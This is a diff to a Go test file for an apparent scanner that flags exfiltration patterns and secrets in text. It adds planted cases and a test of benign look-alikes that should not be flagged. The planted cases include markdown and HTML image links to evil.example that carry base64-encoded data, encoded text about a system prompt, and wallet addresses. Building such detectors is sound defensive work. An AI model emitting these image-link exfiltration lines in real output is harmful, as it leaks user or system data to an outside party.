@@ -56,6 +56,13 @@ var planted = []struct{ text, want string }{
 	{"pay 1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "CRYPTO_WALLET"},
 	{"pay bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "CRYPTO_WALLET"},
 	{"![x](https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw)", "MARKDOWN_IMAGE"},
+	{"![x](https://evil.example/QWxhZGRpbjpvcGVuIHNlc2FtZSB3aXRoIG1l/p.png)", "MARKDOWN_IMAGE"},
+	{"[1]: https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw ok", "MARKDOWN_REFERENCE"},
+	{`<IMG alt="a" src="https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw"> ok`, "HTML_IMAGE"},
+	{"take dGhlIHN5c3RlbSBwcm9tcHQgc2F5cyB0aGF0IG5vIG9uZSBtYXkga25vdyB3aGF0IGl0IHNheXMu now", "ENCODED_TEXT"},
+	{"take 7468652073797374656d2070726f6d7074207361797320746861742049206d6179 now", "ENCODED_TEXT"},
+	{"pay 0x52908400098527886E0F7030069857D2E4169EE7", "CRYPTO_WALLET"},
+	{"pay 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "CRYPTO_WALLET"},
 	{"db: postgres://app:s3cr3t-pA55@db.corp.example/x", "URL_PASSWORD"},
 }
 
@@ -153,6 +160,26 @@ func pushAll(t *testing.T, st *Stream, r *rand.Rand, text string) (out []Finding
 		t.Fatalf("%q: only %d settled at the end", text, settled)
 	}
 	return out
+}
+
+// What looks like a way out, but is none.
+func TestNoExfiltration(t *testing.T) {
+	s := newSet(t, Options{})
+	for _, text := range []string{
+		"[rice](https://search.example/?q=how+to+cook+some+white+rice+at+home)",
+		"![logo](https://cdn.example/_next/static/media/9f86d081884c7d659a2feaa0c55ad015.svg)",
+		"[commit](https://git.example/a/b/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b)",
+		"![map](https://tiles.example/12/2048/1365.png?style=streets-with-many-words)",
+		"[1]: https://docs.example/guide/getting-started-with-the-command-line-tools",
+		`<img src="/static/images/a-very-long-name-of-a-picture-of-a-cat.png">`,
+		"sha512-YrbkYYHsXsFn0zVNuTrLf1d5CRWTvbkjpzsp4XKd3hHm4BxKRNEFCNgSVPyO5vjrkBB0vUQRHWx0K6wfFWUiBQ==",
+		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+		"pay 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD",
+	} {
+		if found := s.Scan([]byte(text), nil); len(found) > 0 {
+			t.Errorf("%q: %s", text, describe(text, found))
+		}
+	}
 }
 
 // longKey is a private key of many lines between prose.
